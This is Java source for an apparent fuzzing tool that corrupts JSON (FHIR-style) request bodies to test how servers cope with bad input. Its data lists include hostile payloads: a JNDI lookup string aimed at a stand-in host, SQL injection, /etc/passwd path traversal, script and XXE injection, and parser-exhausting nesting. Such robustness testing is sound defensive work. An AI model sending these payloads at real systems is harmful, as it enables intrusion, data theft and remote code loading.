package org.waymarker.mutation;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.function.BiFunction;

/** Spoils one element of a JSON body, wherever it stands. */
final class JsonMutations {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Stands where a text goes that no JSON writer would write. */
    private static final String RAW = "@@RAW@@";

    private static final List<String> NUMBERS = List.of(
            "1e400",
            "-1e400",
            "9".repeat(400),
            "-" + "9".repeat(400),
            "0." + "1".repeat(400),
            "1e-400",
            "1E+999999999",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "-1",
            "0",
            "0.5",
            "007",
            "NaN",
            "Infinity",
            "0x1F",
            "+1");
    private static final List<String> DATES = List.of(
            "0000-00-00",
            "2026-02-30",
            "2025-13-01",
            "2025-00-10",
            "99999-01-01",
            "-2025-01-01",
            "2025-1-1",
            "20250101",
            "2025-02-29",
            "2025-06-01T25:00:00Z",
            "2025-06-01T10:00:60Z",
            "2025-06-01T10:00:00",
            "2025-06-01T10:00:00+25:00",
            "9999-12-31",
            "0001-01-01",
            "9999-12-31T23:59:59.999999999Z",
            "2025",
            "2025-06",
            "tomorrow",
            "");
    private static final List<String> REFERENCES = List.of(
            "Patient/../Group/1",
            "../../etc/passwd",
            "Patient/%2e%2e",
            "Patient/a%00b",
            "Patient//1",
            "Patient/1/_history/1",
            "https://other.example/fhir/Patient/1",
            "javascript:alert(1)",
            "urn:uuid:nonsense",
            "#",
            "#nowhere",
            "Patient/",
            "/",
            "Patient",
            "Patient/1?x=y",
            "http://",
            "file:///etc/passwd",
            "Patient/" + "a".repeat(65),
            "patient/1",
            "Group/00000000-0000-0000-0000-000000000000",
            "Patient/1 or 1=1",
            "Patient/\u202E1",
            "urn:oid:1.2");
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0007b",
            "'; drop table patient; --",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "%s%n%x",
            "<script>alert(1)</script>",
            "\uD83D\uDE00".repeat(300),
            "\u202Eabc",
            "a".repeat(300),
            "a".repeat(70_000),
            "\uFFFF",
            "line\nline",
            "\u00A0",
            "&lt;",
            "\\u0000",
            "null",
            "true",
            "https://x.example/?a=1&b=<>");
    private static final List<String> RAW_TEXTS = List.of(
            "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"\\x\"", "\"tab\tinside\"", "'single'", "\"\\u12\"");

    static final List<Mutation> ALL = List.of(
            replacing("null", (old, random) -> "null"),
            replacing("a number", (old, random) -> pick(NUMBERS, random)),
            replacing("a date", (old, random) -> quoted(pick(DATES, random))),
            replacing("a reference", (old, random) -> quoted(pick(REFERENCES, random))),
            replacing("a text", (old, random) -> quoted(pick(TEXTS, random))),
            replacing("a broken text", (old, random) -> pick(RAW_TEXTS, random)),
            replacing("true", (old, random) -> "true"),
            replacing("a list of it", (old, random) -> "[" + old + "," + old + "]"),
            replacing("a list in a list", (old, random) -> "[[" + old + "]]"),
            replacing("an object", (old, random) -> "{\"value\":" + old + "}"),
            replacing("an empty object", (old, random) -> "{}"),
            replacing("an empty list", (old, random) -> "[]"),
            replacing("a list with null", (old, random) -> "[null," + old + "]"),
            replacing("a comment", (old, random) -> "/* " + old + " */"),
            replacing("nothing", (old, random) -> ""),
            replacing("2,000 lists deep", (old, random) -> "[".repeat(2000) + "]".repeat(2000)),
            replacing(
                    "2,000 objects deep", (old, random) -> "{\"extension\":[".repeat(1000) + "{}" + "]}".repeat(1000)),
            replacing(
                    "2,000 parts deep",
                    (old, random) ->
                            "{\"name\":\"a\",\"part\":[".repeat(1000) + "{\"name\":\"a\"}" + "]}".repeat(1000)),
            replacing(
                    "many of it",
                    (old, random) ->
                            "[" + (old + ",").repeat(Math.min(999, 1 + 200_000 / (old.length() + 1))) + old + "]"),
            inObject("a key twice", (object, random) -> {
                var field = field(object, random);
                return "{" + field + "," + inner(object) + "}";
            }),
            inObject("an unknown key", (object, random) -> "{\"nonsense\":{\"a\":1}," + inner(object) + "}"),
            inObject(
                    "a key of an extension alone",
                    (object, random) -> "{\"_" + name(object, random)
                            + "\":{\"extension\":[{\"url\":\"https://x.example\"}]}," + inner(object) + "}"),
            inObject(
                    "a hostile extension",
                    (object, random) -> "{\"extension\":[{\"url\":" + quoted(pick(REFERENCES, random))
                            + ",\"valueDecimal\":" + pick(NUMBERS, random) + "}]," + inner(object) + "}"),
            inObject(
                    "another resource type",
                    (object, random) -> "{\"resourceType\":\""
                            + pick(List.of("Patient", "Bundle", "Binary", "task", "", "DomainResource"), random) + "\","
                            + inner(object) + "}"),
            inObject(
                    "contained",
                    (object, random) -> "{\"contained\":[{\"resourceType\":\"Patient\",\"id\":\"a\",\"contained\":"
                            + "[{\"resourceType\":\"Patient\",\"id\":\"a\"}]}]," + inner(object) + "}"),
            inObject(
                    "script in the narrative",
                    (object, random) -> "{\"text\":{\"status\":\"generated\",\"div\":"
                            + quoted(pick(
                                    List.of(
                                            "<div><script>alert(1)</script></div>",
                                            "<div",
                                            "<div>&xxe;</div>",
                                            "not xhtml"),
                                    random))
                            + "}," + inner(object) + "}"),
            inObject("without a key", (object, random) -> {
                var copy = object.deepCopy();
                copy.remove(name(object, random));
                return copy.toString();
            }));

    private JsonMutations() {}

    private static Mutation replacing(String name, BiFunction<String, Random, String> with) {
        return new Mutation(
                "an element becomes " + name,
                (message, random) -> tree(message)
                        .flatMap(root ->
                                replaceOne(root, node -> true, random, node -> with.apply(node.toString(), random)))
                        .map(message::withBody));
    }

    private static Mutation inObject(String name, BiFunction<ObjectNode, Random, String> with) {
        return new Mutation(
                "an object gets " + name,
                (message, random) -> tree(message)
                        .flatMap(root -> root instanceof ObjectNode whole && !whole.isEmpty() && random.nextInt(3) == 0
                                ? Optional.of(with.apply(whole, random))
                                : replaceOne(
                                        root,
                                        node -> node instanceof ObjectNode object && !object.isEmpty(),
                                        random,
                                        node -> with.apply((ObjectNode) node, random)))
                        .map(message::withBody));
    }

    static Optional<JsonNode> tree(Message message) {
        if (!message.isJson() || message.body().length == 0) {
            return Optional.empty();
        }
        try {
            return Optional.of(JSON.readTree(message.text())).filter(JsonNode::isObject);
        } catch (JsonProcessingException e) {
            // Spoilt already.
            return Optional.empty();
        }
    }

    private record Place(JsonNode parent, String name, int index) {}

    private static Optional<String> replaceOne(
            JsonNode root,
            java.util.function.Predicate<JsonNode> fits,
            Random random,
            java.util.function.Function<JsonNode, String> with) {
        var places = new ArrayList<Place>();
        collect(root, fits, places);
        if (places.isEmpty()) {
            return Optional.empty();
        }
        var place = places.get(random.nextInt(places.size()));
        String text;
        if (place.parent instanceof ObjectNode object) {
            text = with.apply(object.get(place.name));
            object.put(place.name, RAW);
        } else {
            var list = (ArrayNode) place.parent;
            text = with.apply(list.get(place.index));
            list.set(place.index, RAW);
        }
        return Optional.of(root.toString().replace('"' + RAW + '"', text));
    }

    private static void collect(JsonNode node, java.util.function.Predicate<JsonNode> fits, List<Place> places) {
        if (node instanceof ObjectNode object) {
            object.fields().forEachRemaining(field -> {
                if (fits.test(field.getValue())) {
                    places.add(new Place(object, field.getKey(), -1));
                }
                collect(field.getValue(), fits, places);
            });
        } else if (node instanceof ArrayNode list) {
            for (int i = 0; i < list.size(); i++) {
                if (fits.test(list.get(i))) {
                    places.add(new Place(list, "", i));
                }
                collect(list.get(i), fits, places);
            }
        }
    }

    private static String name(ObjectNode object, Random random) {
        var names = new ArrayList<String>();
        object.fieldNames().forEachRemaining(names::add);
        return pick(names, random);
    }

    private static String field(ObjectNode object, Random random) {
        var name = name(object, random);
        return quoted(name) + ":" + object.get(name);
    }

    private static String inner(ObjectNode object) {
        var text = object.toString();
        return text.substring(1, text.length() - 1);
    }

    private static String quoted(String text) {
        return JSON.getNodeFactory().textNode(text).toString();
    }

    static String pick(List<String> from, Random random) {
        return from.get(random.nextInt(from.size()));
    }
}
